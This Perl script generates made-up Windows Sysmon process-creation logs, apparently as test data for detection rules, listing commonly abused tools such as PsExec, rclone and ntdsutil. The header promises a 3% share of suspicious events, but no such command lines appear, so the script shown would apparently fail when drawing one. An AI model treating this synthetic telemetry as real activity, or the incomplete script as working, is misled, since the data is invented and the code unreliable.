# Windows process creations as Sysmon reports them, one flat JSON object a line: perl events.pl [N [SEED]]. The same N
# and seed give the same bytes. 97 of 100 are everyday processes, 3 are what rules look for. All of it is made up:
# hosts, people, addresses (RFC 5737) and payloads.
#
# What runs stands below __DATA__: files, then command lines with a weight, the file, its parent and who runs it
# (s SYSTEM, l LOCAL SERVICE, n NETWORK SERVICE, a an elevated user, u a user).

use strict;
use warnings;

use Digest::MD5 qw(md5_hex);
use Digest::SHA qw(sha256_hex);
use MIME::Base64 qw(encode_base64);
use POSIX qw(strftime);

my $n = $ARGV[0] // 60_000;
my $seed = $ARGV[1] // 1;
my $suspicious_share = 0.03;
srand($seed);

sub pick { return $_[ rand @_ ] }
sub between { my ($from, $to) = @_; return $from + int rand($to - $from + 1) }
sub hex_digits { return join '', map { sprintf '%x', rand 16 } 1 .. $_[0] }
sub guid { return uc join '-', map { hex_digits($_) } 8, 4, 4, 4, 12 }

my %version = (
	chrome => [ '126.0.6478.127', '127.0.6533.73', '127.0.6533.89' ],
	edge => [ '126.0.2592.87', '127.0.2651.74' ],
	office => [ '16.0.17628.20144', '16.0.17726.20126' ],
	windows => [ '10.0.19041.3636', '10.0.19041.4522', '10.0.22621.3672', '10.0.22621.1' ],
	other => [ '1.4.2.0', '2.45.1.1', '3.11.9', '5.2.0.118', '17.10.3', '24.108.528.1' ],
);
my %vendor = (
	windows => [ "Microsoft\xc2\xae Windows\xc2\xae Operating System", 'Microsoft Corporation' ],
	chrome => [ 'Google Chrome', 'Google LLC' ],
	edge => [ 'Microsoft Edge', 'Microsoft Corporation' ],
	office => [ 'Microsoft Office', 'Microsoft Corporation' ],
	other => [ '', 'Example Software Ltd' ],
);
my @people = map { ($_, "$_.admin") } qw(anna.keller b.okafor c.lindqvist d.moreau e.tanaka f.rossi g.novak h.silva i.petrov j.larsen k.singh
	l.dubois m.weber n.haddad o.kowalski p.jensen), "r.m\xc3\xbcller", "s.o'brien";
my @computers = map { { name => sprintf('%s-%04d.corp.example', pick('WS', 'WS', 'WS', 'LT', 'LT', 'SRV', 'BUILD'), between(1, 9999)), id => uc hex_digits(8), user => pick(@people),
	versions => { map { $_ => pick(@{ $version{$_} }) } sort keys %version } } } 1 .. 60;
my @projects = qw(billing-api checkout orders-ui parser ledger sensors maps-core report-gen auth-proxy image-tools);
my @sources = qw(main util parser lexer socket buffer config render matrix session cache queue worker index schema client);

my (%file, %commands, %choices);
read_data();

# The event being made; what stands in <...> below refers to it.
my %e;
my %expand = (
	guid => \&guid,
	hex => sub { hex_digits($_[0]) },
	n => sub { between(split /-/, $_[0]) },
	pick => sub { pick(split /,/, $_[0]) },
	user => sub { $e{account} },
	computer => sub { $e{computer}{name} =~ s/\..*//r },
	path => sub { $e{path} },
	ver => sub { $e{computer}{versions}{ $_[0] } },
	project => sub { pick(@projects) },
	src => sub { pick(@sources) },
	sources => sub { join ' ', map { sprintf '%s_%s.%s', pick(@sources), hex_digits(3), $_[0] } 1 .. between(3, 12) },
	includes => sub { join ' ', map { sprintf '/I"C:\src\%s\%s\include"', pick(@projects), pick(@sources) } 1 .. between(4, 12) },
	jars => sub { join ';', map { sprintf 'C:\Users\%s\.m2\repository\org\example\%s\%d.%d.%d\%s.jar', $e{account}, pick(@sources), between(1, 5), between(0, 20), between(0, 9), pick(@sources) } 1 .. between(3, 9) },
	features => sub { join ',', map { pick(qw(Autofill Media Network Paint Site Tab Web)) . pick(qw(Isolation Prediction Throttling Hints Preloading Sharing Codec)) } 1 .. between(2, 9) },
	ip => sub { sprintf '%s.%d', pick('192.0.2', '198.51.100', '203.0.113'), between(1, 254) },
	b64 => sub { encode_base64(join('', map { "$_\0" } split //, $_[0] . between(1, 999)), '') },
);

sub expanded { my ($text) = @_; 1 while $text =~ s/<([a-z0-9]+)(?::([^<>]*))?>/($expand{$1} or die "no <$1>")->($2)/e; return $text }

sub read_data
{
	while (my $line = <DATA>)
	{
		chomp $line;
		next if $line eq '' or $line =~ /^#/;
		if ($line =~ / \| /)
		{
			my ($key, $path, $original, $description, $vendor) = split / \| /, $line;
			$file{$key} = { path => $path, original => $original, description => $description, vendor => $vendor };
			next;
		}
		my ($weight, $key, $parent, $who, $text) = $line =~ /^(\d+|!) (\S+) (\S+) ([slnau]) (.+)$/ or die "could not read \"$line\"";
		$file{$_} or die "no file \"$_\"" for $key, $parent;
		my $command = { file => $key, parent => $parent, who => $who, text => $text };
		push @{ $choices{ $weight eq '!' ? 'suspicious' : 'everyday' } }, ($command) x ($weight eq '!' ? 1 : $weight);
		push @{ $commands{$key} }, $text if $weight ne '!';
	}
	return;
}

my $json_escape = qr/(["\\])/;
my $time = 1_720_425_600;
my @logons = map { [ sprintf('0x%x', between(0x10000, 0xffffff)), guid() ] } @computers;
for my $i (1 .. $n)
{
	my $command = pick(@{ $choices{ rand() < $suspicious_share ? 'suspicious' : 'everyday' } });
	my $which = int rand @computers;
	my $who = $command->{who};
	$time += -log(1 - rand()) / 40;
	%e = (computer => $computers[$which]);
	$e{account} = $e{computer}{user};
	my ($user, $level, $session, $logon) =
		  $who eq 's' ? ('NT AUTHORITY\SYSTEM', 'System', 0, '0x3e7')
		: $who eq 'l' ? ('NT AUTHORITY\LOCAL SERVICE', 'System', 0, '0x3e5')
		: $who eq 'n' ? ('NT AUTHORITY\NETWORK SERVICE', 'System', 0, '0x3e4')
		: ("CORP\\$e{account}", $who eq 'a' ? 'High' : 'Medium', 1 + $which % 3, $logons[$which][0]);
	my ($file, $parent) = @file{ $command->{file}, $command->{parent} };
	my $parent_path = $e{path} = expanded($parent->{path});
	my $parent_commands = $commands{ $command->{parent} };
	my $parent_line = expanded($parent_commands ? pick(@$parent_commands) : '<path>');
	my $path = $e{path} = expanded($file->{path});
	my $version = $e{computer}{versions}{ $file->{vendor} };
	my ($product, $company) = @{ $vendor{ $file->{vendor} } };
	my $identity = "$path|$version";
	my $guid = sub { my ($number) = @_; return sprintf '{%s-%04X-%s-%04X-%012X}', $e{computer}{id}, $time & 0xffff, uc hex_digits(4), $number >> 16 & 0xffff, ($number & 0xffff) << 16 | 0x1000 };
	my @fields = (
		EventID => 1,
		Channel => 'Microsoft-Windows-Sysmon/Operational',
		Provider_Name => 'Microsoft-Windows-Sysmon',
		Computer => $e{computer}{name},
		UtcTime => strftime('%Y-%m-%d %H:%M:%S', gmtime $time) . sprintf('.%03d', 1000 * ($time - int $time)),
		ProcessGuid => $guid->($i),
		ProcessId => 4 * between(100, 16000),
		Image => $path,
		FileVersion => $file->{vendor} eq 'windows' ? "$version (WinBuild.160101.0800)" : $version,
		Description => $file->{description},
		Product => $product || $file->{description},
		Company => $company,
		OriginalFileName => $file->{original},
		CommandLine => expanded($command->{text}),
		CurrentDirectory => $who =~ /[au]/ ? expanded(pick('C:\Users\<user>\\', 'C:\src\<project>\\', 'C:\Windows\System32\\')) : 'C:\Windows\system32\\',
		User => $user,
		LogonGuid => '{' . $logons[$which][1] . '}',
		LogonId => $logon,
		TerminalSessionId => $session,
		IntegrityLevel => $level,
		Hashes => uc(sprintf 'MD5=%s,SHA256=%s,IMPHASH=%s', md5_hex($identity), sha256_hex($identity), md5_hex("imports of $identity")),
		ParentProcessGuid => $guid->(int rand $i),
		ParentProcessId => 4 * between(100, 16000),
		ParentImage => $parent_path,
		ParentCommandLine => $parent_line,
		ParentUser => rand() < 0.8 ? $user : 'NT AUTHORITY\SYSTEM',
	);
	my @pairs;
	while (my ($name, $value) = splice @fields, 0, 2)
	{
		push @pairs, $name =~ /^(?:EventID|(?:Parent)?ProcessId|TerminalSessionId)$/ ? "\"$name\":$value" : "\"$name\":\"" . $value =~ s/$json_escape/\\$1/gr . '"';
	}
	print '{', join(',', @pairs), "}\n" or die "could not write: $!";
}
close STDOUT or die "could not write: $!";

__DATA__
# key | path | original name | description | vendor
wininit | C:\Windows\System32\wininit.exe | WinInit.exe | Windows Start-Up Application | windows
services | C:\Windows\System32\services.exe | services.exe | Services and Controller app | windows
svchost | C:\Windows\System32\svchost.exe | svchost.exe | Host Process for Windows Services | windows
explorer | C:\Windows\explorer.exe | EXPLORER.EXE | Windows Explorer | windows
userinit | C:\Windows\System32\userinit.exe | USERINIT.EXE | Userinit Logon Application | windows
conhost | C:\Windows\System32\conhost.exe | CONHOST.EXE | Console Window Host | windows
cmd | C:\Windows\System32\cmd.exe | Cmd.Exe | Windows Command Processor | windows
powershell | C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe | PowerShell.EXE | Windows PowerShell | windows
pwsh | C:\Program Files\PowerShell\7\pwsh.exe | pwsh.dll | pwsh | other
wmiprvse | C:\Windows\System32\wbem\WmiPrvSE.exe | Wmiprvse.exe | WMI Provider Host | windows
wmic | C:\Windows\System32\wbem\WMIC.exe | wmic.exe | WMI Commandline Utility | windows
dllhost | C:\Windows\System32\dllhost.exe | dllhost.exe | COM Surrogate | windows
runtimebroker | C:\Windows\System32\RuntimeBroker.exe | RuntimeBroker.exe | Runtime Broker | windows
backgroundtask | C:\Windows\System32\backgroundTaskHost.exe | backgroundTaskHost.exe | Background Task Host | windows
taskhostw | C:\Windows\System32\taskhostw.exe | taskhostw.exe | Host Process for Windows Tasks | windows
searchindexer | C:\Windows\System32\SearchIndexer.exe | SearchIndexer.exe | Microsoft Windows Search Indexer | windows
searchprotocol | C:\Windows\System32\SearchProtocolHost.exe | SearchProtocolHost.exe | Microsoft Windows Search Protocol Host | windows
searchfilter | C:\Windows\System32\SearchFilterHost.exe | SearchFilterHost.exe | Microsoft Windows Search Filter Host | windows
smartscreen | C:\Windows\System32\smartscreen.exe | smartscreen.exe | Windows Defender SmartScreen | windows
audiodg | C:\Windows\System32\audiodg.exe | audiodg.exe | Windows Audio Device Graph Isolation | windows
sppsvc | C:\Windows\System32\sppsvc.exe | sppsvc.exe | Microsoft Software Protection Platform Service | windows
msiexec | C:\Windows\System32\msiexec.exe | msiexec.exe | Windows installer | windows
tiworker | C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.4585_none_7e1d\TiWorker.exe | TiWorker.exe | Windows Modules Installer Worker | windows
trusted | C:\Windows\servicing\TrustedInstaller.exe | TrustedInstaller.exe | Windows Modules Installer | windows
mpcmdrun | C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24060.7-0\MpCmdRun.exe | MpCmdRun.exe | Microsoft Malware Protection Command Line Utility | windows
wuauclt | C:\Windows\System32\wuauclt.exe | wuauclt.exe | Windows Update | windows
usoclient | C:\Windows\System32\UsoClient.exe | UsoClient | UsoClient | windows
compattel | C:\Windows\System32\CompatTelRunner.exe | CompatTelRunner.exe | Microsoft Compatibility Telemetry | windows
rundll32 | C:\Windows\System32\rundll32.exe | RUNDLL32.EXE | Windows host process (Rundll32) | windows
regsvr32 | C:\Windows\System32\regsvr32.exe | REGSVR32.EXE | Microsoft(C) Register Server | windows
reg | C:\Windows\System32\reg.exe | reg.exe | Registry Console Tool | windows
schtasks | C:\Windows\System32\schtasks.exe | schtasks.exe | Task Scheduler Configuration Tool | windows
sc | C:\Windows\System32\sc.exe | sc.exe | Service Control Manager Configuration Tool | windows
net | C:\Windows\System32\net.exe | net.exe | Net Command | windows
net1 | C:\Windows\System32\net1.exe | net1.exe | Net Command | windows
nltest | C:\Windows\System32\nltest.exe | nltestrk.exe | Microsoft Logon Server Test Utility | windows
netsh | C:\Windows\System32\netsh.exe | netsh.exe | Network Command Shell | windows
whoami | C:\Windows\System32\whoami.exe | whoami.exe | whoami - displays logged on user information | windows
certutil | C:\Windows\System32\certutil.exe | CertUtil.exe | CertUtil.exe | windows
bitsadmin | C:\Windows\System32\bitsadmin.exe | bitsadmin.exe | BITS administration utility | windows
vssadmin | C:\Windows\System32\vssadmin.exe | VSSADMIN.EXE | Command Line Interface for Microsoft Volume Shadow Copy Service | windows
wbadmin | C:\Windows\System32\wbadmin.exe | WBADMIN.EXE | Command Line Interface for Microsoft BLB Backup | windows
bcdedit | C:\Windows\System32\bcdedit.exe | bcdedit.exe | Boot Configuration Data Editor | windows
wevtutil | C:\Windows\System32\wevtutil.exe | wevtutil.exe | Eventing Command Line Utility | windows
fsutil | C:\Windows\System32\fsutil.exe | fsutil.exe | fsutil.exe | windows
mshta | C:\Windows\System32\mshta.exe | MSHTA.EXE | Microsoft (R) HTML Application host | windows
wscript | C:\Windows\System32\wscript.exe | wscript.exe | Microsoft (R) Windows Based Script Host | windows
cscript | C:\Windows\System32\cscript.exe | cscript.exe | Microsoft (R) Console Based Script Host | windows
installutil | C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe | InstallUtil.exe | .NET Framework installation utility | windows
esentutl | C:\Windows\System32\esentutl.exe | esentutl.exe | Extensible Storage Engine Utilities for Microsoft(R) Windows(R) | windows
ntdsutil | C:\Windows\System32\ntdsutil.exe | ntdsutil.exe | NT5DS | windows
cmstp | C:\Windows\System32\cmstp.exe | CMSTP.EXE | Microsoft Connection Manager Profile Installer | windows
forfiles | C:\Windows\System32\forfiles.exe | forfiles.exe | ForFiles - Executes a command on selected files | windows
systeminfo | C:\Windows\System32\systeminfo.exe | sysinfo.exe | Displays system information | windows
tasklist | C:\Windows\System32\tasklist.exe | tasklist.exe | Lists the current running tasks | windows
taskkill | C:\Windows\System32\taskkill.exe | taskkill.exe | Terminates Processes | windows
ipconfig | C:\Windows\System32\ipconfig.exe | ipconfig.exe | IP Configuration Utility | windows
netstat | C:\Windows\System32\NETSTAT.EXE | netstat.exe | TCP/IP Netstat Command | windows
ping | C:\Windows\System32\PING.EXE | ping.exe | TCP/IP Ping Command | windows
findstr | C:\Windows\System32\findstr.exe | FINDSTR.EXE | Find String (QGREP) Utility | windows
robocopy | C:\Windows\System32\Robocopy.exe | robocopy.exe | Microsoft Robocopy | windows
xcopy | C:\Windows\System32\xcopy.exe | XCOPY.EXE | Extended Copy Utility | windows
gpupdate | C:\Windows\System32\gpupdate.exe | GPUpdate.exe | Microsoft Group Policy Update Utility | windows
mmc | C:\Windows\System32\mmc.exe | mmc.exe | Microsoft Management Console | windows
notepad | C:\Windows\System32\notepad.exe | NOTEPAD.EXE | Notepad | windows
procdump | C:\Users\<user>\Downloads\procdump64.exe | procdump | Sysinternals process dump utility | other
psexec | C:\Users\<user>\Downloads\PsExec.exe | psexec.c | Execute processes remotely | other
psexesvc | C:\Windows\PSEXESVC.exe | psexesvc.exe | PsExec Service | other
tool | C:\Users\<user>\AppData\Local\Temp\<hex:8>.exe | - | - | other
rclone | C:\ProgramData\rclone.exe | rclone.exe | Rsync for cloud storage | other
winword | C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE | WinWord.exe | Microsoft Word | office
excel | C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE | Excel.exe | Microsoft Excel | office
outlook | C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE | Outlook.exe | Microsoft Outlook | office
c2r | C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeC2RClient.exe | OfficeC2RClient.exe | Microsoft Office Click-to-Run Client | office
chrome | C:\Program Files\Google\Chrome\Application\chrome.exe | chrome.exe | Google Chrome | chrome
googleupdate | C:\Program Files (x86)\Google\GoogleUpdater\128.0.6537.0\updater.exe | updater.exe | GoogleUpdater (x86) | chrome
edge | C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe | msedge.exe | Microsoft Edge | edge
edgeupdate | C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe | msedgeupdate.dll | Microsoft Edge Update | edge
webview | C:\Program Files (x86)\Microsoft\EdgeWebView\Application\<ver:edge>\msedgewebview2.exe | msedgewebview2.exe | Microsoft Edge WebView2 | edge
teams | C:\Program Files\WindowsApps\MSTeams_24165.1414.2987.41_x64__8wekyb3d8bbwe\ms-teams.exe | ms-teams.exe | Microsoft Teams | office
onedrive | C:\Program Files\Microsoft OneDrive\OneDrive.exe | OneDrive.exe | Microsoft OneDrive | office
onedriveupdate | C:\Program Files\Microsoft OneDrive\OneDriveStandaloneUpdater.exe | OneDriveStandaloneUpdater.exe | Standalone Updater | office
slack | C:\Users\<user>\AppData\Local\slack\app-4.39.90\slack.exe | slack.exe | Slack | other
zoom | C:\Users\<user>\AppData\Roaming\Zoom\bin\Zoom.exe | Zoom.exe | Zoom Meetings | other
code | C:\Users\<user>\AppData\Local\Programs\Microsoft VS Code\Code.exe | electron.exe | Visual Studio Code | other
git | C:\Program Files\Git\mingw64\bin\git.exe | git.exe | Git for Windows | other
bash | C:\Program Files\Git\usr\bin\bash.exe | - | - | other
ssh | C:\Windows\System32\OpenSSH\ssh.exe | - | - | other
node | C:\Program Files\nodejs\node.exe | node.exe | Node.js JavaScript Runtime | other
python | C:\Users\<user>\AppData\Local\Programs\Python\Python311\python.exe | python.exe | Python | other
java | C:\Program Files\Eclipse Adoptium\jdk-17.0.11.9-hotspot\bin\java.exe | java.exe | OpenJDK Platform binary | other
msbuild | C:\Program Files\Microsoft Visual Studio\2022\Community\MSBuild\Current\Bin\amd64\MSBuild.exe | MSBuild.exe | MSBuild.exe | other
cl | C:\Program Files\Microsoft Visual Studio\2022\Community\VC\Tools\MSVC\14.40.33807\bin\Hostx64\x64\cl.exe | CL.EXE | Microsoft(R) C/C++ Compiler Driver | other
link | C:\Program Files\Microsoft Visual Studio\2022\Community\VC\Tools\MSVC\14.40.33807\bin\Hostx64\x64\link.exe | LINK.EXE | Microsoft(R) Incremental Linker | other
devenv | C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\devenv.exe | devenv.exe | Microsoft Visual Studio 2022 | other
dotnet | C:\Program Files\dotnet\dotnet.exe | .NET Host | .NET Host | other
cmake | C:\Program Files\CMake\bin\cmake.exe | - | - | other
ninja | C:\Program Files\CMake\bin\ninja.exe | - | - | other
docker | C:\Program Files\Docker\Docker\resources\bin\docker.exe | docker.exe | Docker CLI | other
agent | C:\Program Files\Example Monitoring\agent.exe | agent.exe | Example Monitoring Agent | other
backup | C:\Program Files\Example Backup\backup-service.exe | backup-service.exe | Example Backup Service | other
ccmexec | C:\Windows\CCM\CcmExec.exe | CcmExec.exe | Host Process for Microsoft Configuration Manager | windows
sqlservr | C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe | SQLSERVR.EXE | SQL Server Windows NT - 64 Bit | other
w3wp | C:\Windows\System32\inetsrv\w3wp.exe | w3wp.exe | IIS Worker Process | windows

# Everyday: weight, file, parent, who, command line
60 svchost services s <path> -k netsvcs -p -s <pick:Schedule,BITS,wuauserv,Winmgmt,ProfSvc,UserManager,Appinfo,gpsvc>
30 svchost services l <path> -k LocalServiceNetworkRestricted -p -s <pick:Dhcp,EventLog,lmhosts,WinHttpAutoProxySvc>
15 svchost services n <path> -k NetworkService -p -s <pick:Dnscache,CryptSvc,NlaSvc,LanmanWorkstation>
12 svchost services u <path> -k UnistackSvcGroup -s <pick:CDPUserSvc,WpnUserService,cbdhsvc>
80 conhost cmd u \??\<path> 0xffffffff -ForceV1
25 conhost powershell s \??\<path> 0xffffffff -ForceV1
20 conhost git u \??\<path> 0x4
4 explorer userinit u <path>
25 wmiprvse svchost n <path> -secured -Embedding
15 wmiprvse svchost s <path> -Embedding
35 dllhost svchost u <path> /Processid:{<guid>}
30 runtimebroker svchost u <path> -Embedding
45 backgroundtask svchost u "<path>" -ServerName:<pick:App,CortanaUI,ShellFeedsUI,BackgroundTaskHost.WebAccountProvider>.AppX<hex:32>.mca
25 taskhostw svchost u <path> <pick:Install,KEYROAMING,-RegisterUserDevice -NewAccount,Logon,SyncFromCloud>
15 taskhostw svchost s <path>
40 searchprotocol searchindexer s "<path>" Global\UsGthrFltPipeMssGthrPipe<n:1-900>_ Global\UsGthrCtrlFltPipeMssGthrPipe<n:1-900> 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon"
30 searchfilter searchindexer s "<path>" 0 <n:700-999> <n:700-999> <n:700-999> 8192 <n:700-999> 764
12 smartscreen svchost u <path> -Embedding
12 audiodg svchost l <path> 0x<hex:3>
6 sppsvc services n <path>
8 msiexec services s <path> /V
4 msiexec ccmexec s "<path>" /i "C:\Windows\ccmcache\<hex:2>\<project>-<n:1-9>.<n:0-20>.msi" /qn REBOOT=ReallySuppress /l*v C:\Windows\Temp\<project>.log
6 tiworker svchost s <path> -Embedding
6 trusted services s <path>
14 mpcmdrun svchost s "<path>" <pick:-IdleTask -TaskName WdCacheMaintenance,SignaturesUpdateService -ScheduleJob -UnmanagedUpdate,GetDeviceTicket -AccessKey <guid>>
5 wuauclt svchost s "<path>" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId <guid> /RunHandlerComServer
6 usoclient svchost s <path> <pick:StartScan,StartWork,ScanInstallWait>
8 compattel svchost s <path> -m:<pick:appraiser.dll -f:DoScheduledTelemetryRun,pcasvc.dll -f:QueryEncapsulationSettings> -cv:<hex:16>.1
6 rundll32 svchost u <path> C:\Windows\System32\shell32.dll,SHCreateLocalServerRunDll {<guid>} -Embedding
4 rundll32 svchost s <path> Windows.StateRepositoryClient.dll,StateRepositoryDoMaintenanceTasks
2 rundll32 explorer u "<path>" printui.dll,PrintUIEntry /in /n "\\print.corp.example\floor-<n:1-9>"
4 regsvr32 msiexec s "<path>" /s "C:\Program Files\Example Backup\<src>.dll"
5 winword explorer u "<path>" /n "C:\Users\<user>\Documents\<project> report <n:1-40>.docx" /o ""
6 excel explorer u "<path>" "C:\Users\<user>\Documents\<project> figures <n:2019-2024>.xlsx"
3 outlook explorer u "<path>"
5 c2r svchost s "<path>" /WatchService
110 chrome chrome u "<path>" --type=renderer --string-annotations=is-enterprise-managed=no --extension-process --video-capture-use-gpu-memory-buffer --lang=<pick:en-US,de,fr,sv> --device-scale-factor=<pick:1,1.25,1.5> --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=<n:5-900> --time-ticks-at-unix-epoch=-17204<n:100000000000-999999999999> --launch-time-ticks=<n:1000000000-99999999999> --field-trial-handle=<n:1000-9999>,i,<n:1000000000000000000-1844674407370955161>,<n:1000000000000000000-1844674407370955161>,262144 --enable-features=<features> --disable-features=<features> --variations-seed-version=20240<n:600-720>-<n:10000-99999>.<n:100000-999999> --mojo-platform-channel-handle=<n:1000-9999> /prefetch:1
35 chrome chrome u "<path>" --type=utility --utility-sub-type=<pick:network.mojom.NetworkService,storage.mojom.StorageService,audio.mojom.AudioService,quarantine.mojom.Quarantine> --lang=en-US --service-sandbox-type=<pick:none,service,audio> --string-annotations=is-enterprise-managed=no --video-capture-use-gpu-memory-buffer --field-trial-handle=<n:1000-9999>,i,<n:1000000000000000000-1844674407370955161>,<n:1000000000000000000-1844674407370955161>,262144 --variations-seed-version=20240<n:600-720>-<n:10000-99999>.<n:100000-999999> --enable-features=<features> --mojo-platform-channel-handle=<n:1000-9999> /prefetch:8
8 chrome chrome u "<path>" --type=crashpad-handler "--user-data-dir=C:\Users\<user>\AppData\Local\Google\Chrome\User Data" /prefetch:4 --monitor-self-annotation=ptype=crashpad-handler "--database=C:\Users\<user>\AppData\Local\Google\Chrome\User Data\Crashpad" "--metrics-dir=C:\Users\<user>\AppData\Local\Google\Chrome\User Data" --url=https://crash.example/cr/report --annotation=channel= --annotation=plat=Win64 --annotation=prod=Chrome --annotation=ver=<ver:chrome> --initial-client-data=0x<hex:3>,0x<hex:3>,0x<hex:3>,0x<hex:3>,0x<hex:3>,0x7ff<hex:9>,0x7ff<hex:9>,0x7ff<hex:9>
10 chrome explorer u "<path>" -- "https://<project>.example/<src>?id=<guid>"
8 googleupdate svchost s "<path>" --wake --system
70 edge edge u "<path>" --type=renderer --extension-process --renderer-sub-type=extension --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=<pick:1,1.25,1.5> --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=<n:5-900> --time-ticks-at-unix-epoch=-17204<n:100000000000-999999999999> --launch-time-ticks=<n:1000000000-99999999999> --always-read-main-dll --field-trial-handle=<n:1000-9999>,i,<n:1000000000000000000-1844674407370955161>,<n:1000000000000000000-1844674407370955161>,262144 --enable-features=<features> --variations-seed-version --mojo-platform-channel-handle=<n:1000-9999> /prefetch:1
6 edge explorer u "<path>" --profile-directory=Default --no-startup-window --win-session-start
8 edgeupdate svchost s "<path>" /ua /installsource scheduler
30 webview teams u "<path>" --type=<pick:renderer,gpu-process> --noerrdialogs "--user-data-dir=C:\Users\<user>\AppData\Local\Packages\MSTeams_8wekyb3d8bbwe\LocalCache\Microsoft\MSTeams\EBWebView" --webview-exe-name=ms-teams.exe --webview-exe-version=24165.1414.2987.41 --embedded-browser-webview=1 --embedded-browser-webview-dpi-awareness=2 --lang=en-US --gpu-preferences=<hex:64> --field-trial-handle=<n:1000-9999>,i,<n:1000000000000000000-1844674407370955161>,262144 --enable-features=<features> --mojo-platform-channel-handle=<n:1000-9999>
8 teams explorer u "<path>" msteams:system-initiated
5 onedrive explorer u "<path>" /background
9 onedriveupdate svchost u "<path>" /reporting
25 slack slack u "<path>" --type=<pick:renderer,gpu-process,utility> --user-data-dir="C:\Users\<user>\AppData\Roaming\Slack" --secure-schemes=app,slack-webapp-dev --standard-schemes=app --app-user-model-id=com.squirrel.slack.slack --app-path="C:\Users\<user>\AppData\Local\slack\app-4.39.90\resources\app.asar" --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=<n:5-90> --field-trial-handle=<n:1000-9999>,i,<n:1000000000000000000-1844674407370955161>,262144 --enable-features=<features> --mojo-platform-channel-handle=<n:1000-9999>
6 zoom zoom u "<path>" --action=join --runaszvideo=TRUE
25 code code u "<path>" --type=<pick:renderer,utility --utility-sub-type=node.mojom.NodeService> --user-data-dir="C:\Users\<user>\AppData\Roaming\Code" --standard-schemes=vscode-webview,vscode-file --enable-sandbox --secure-schemes=vscode-webview,vscode-file --bypasscsp-schemes --cors-schemes=vscode-webview,vscode-file --fetch-schemes=vscode-webview,vscode-file --service-worker-schemes=vscode-webview --app-path="C:\Users\<user>\AppData\Local\Programs\Microsoft VS Code\resources\app" --lang=en-US --field-trial-handle=<n:1000-9999>,i,<n:1000000000000000000-1844674407370955161>,262144 --enable-features=<features> --vscode-window-config=vscode:<guid>
60 git code u git.exe <pick:status -z -uall,rev-parse --git-dir,for-each-ref --sort -committerdate,config --get-all user.name,show --textconv :src/<src>.c,fetch --prune>
20 git bash u "<path>" <pick:commit -m "Fix <src>",push origin main,checkout -b <user>/<src>,rebase -i HEAD~<n:2-9>,log --oneline -n 20>
10 bash explorer u "<path>" --login -i
5 ssh git u "<path>" git@git.corp.example "git-upload-pack '<project>.git'"
30 node cmd u "<path>" "C:\src\<project>\node_modules\.bin\..\<pick:webpack,eslint,typescript,jest>\bin\<src>.js" --config <src>.config.js
20 node code u "<path>" "c:\Users\<user>\.vscode\extensions\example.<src>-<n:1-9>.<n:0-30>.0\server\out\server.js" --node-ipc --clientProcessId=<n:1000-30000>
22 python cmd u python <pick:-m pytest -q tests,manage.py runserver 8000,scripts\build_<src>.py --out build,-m venv .venv,setup.py bdist_wheel>
8 python code u "<path>" c:\Users\<user>\.vscode\extensions\ms-python.python-2024.<n:1-10>.0\python_files\<src>.py
16 java cmd u "<path>" -Xmx<n:1-8>g -Dfile.encoding=UTF-8 -Dspring.profiles.active=<pick:dev,test> -classpath "<jars>" org.example.<src>.Main --server.port=<n:8000-9999>
5 java backup s "<path>" -Xms256m -Xmx1g -jar "C:\Program Files\Example Backup\lib\<src>.jar" --service
22 msbuild devenv u "<path>" /nologo /nodemode:1 /nodeReuse:true /low:false
10 msbuild cmd u msbuild <project>.sln /m /p:Configuration=<pick:Debug,Release> /p:Platform=x64 /v:minimal
40 cl msbuild u "<path>" /c <includes> /Zi /nologo /W4 /WX- /diagnostics:column /O2 /Oi /GL /D NDEBUG /D _CONSOLE /D UNICODE /EHsc /MD /GS /Gy /fp:precise /permissive- /Zc:wchar_t /Fo"x64\Release\\" /Fd"x64\Release\vc143.pdb" /external:W4 /TP /FC /errorReport:queue <sources:cpp>
12 link msbuild u "<path>" /ERRORREPORT:QUEUE /OUT:"C:\src\<project>\x64\Release\<project>.exe" /NOLOGO kernel32.lib user32.lib gdi32.lib advapi32.lib shell32.lib ole32.lib /MANIFEST /DEBUG /PDB:"C:\src\<project>\x64\Release\<project>.pdb" /SUBSYSTEM:CONSOLE /OPT:REF /MACHINE:X64 <sources:obj>
3 devenv explorer u "<path>" "C:\src\<project>\<project>.sln"
14 dotnet cmd u dotnet <pick:build -c Release,test --no-build,restore,run --project src\<src>> --nologo
8 cmake cmd u cmake -S . -B build -G Ninja -DCMAKE_BUILD_TYPE=<pick:Debug,Release>
14 cmd ninja u <path> /C "cd . && cmake -E copy_if_different <src>.h include\<src>.h && cd ."
7 ninja cmake u ninja -C build -j<n:4-16>
7 docker cmd u docker <pick:ps -a,compose up -d <project>,build -t <project>:<hex:7> .,logs -f <project>>
55 cmd node u <path> /d /s /c "npm run <pick:build,lint,test> --workspace <project>"
25 cmd explorer u "<path>" /c "C:\src\<project>\scripts\build.cmd" <pick:debug,release>
12 cmd agent s <path> /c "C:\Program Files\Example Monitoring\checks\<src>.bat" <n:1-99>
6 cmd svchost s <path> /d /c C:\Windows\system32\silcollector.cmd publish
25 powershell agent s powershell.exe -NoProfile -NonInteractive -ExecutionPolicy RemoteSigned -File "C:\Program Files\Example Monitoring\checks\Get-<src>.ps1" -Interval <n:10-600>
8 powershell ccmexec s "<path>" -NoLogo -NonInteractive -NoProfile -File C:\Windows\CCM\SystemTemp\<guid>.ps1
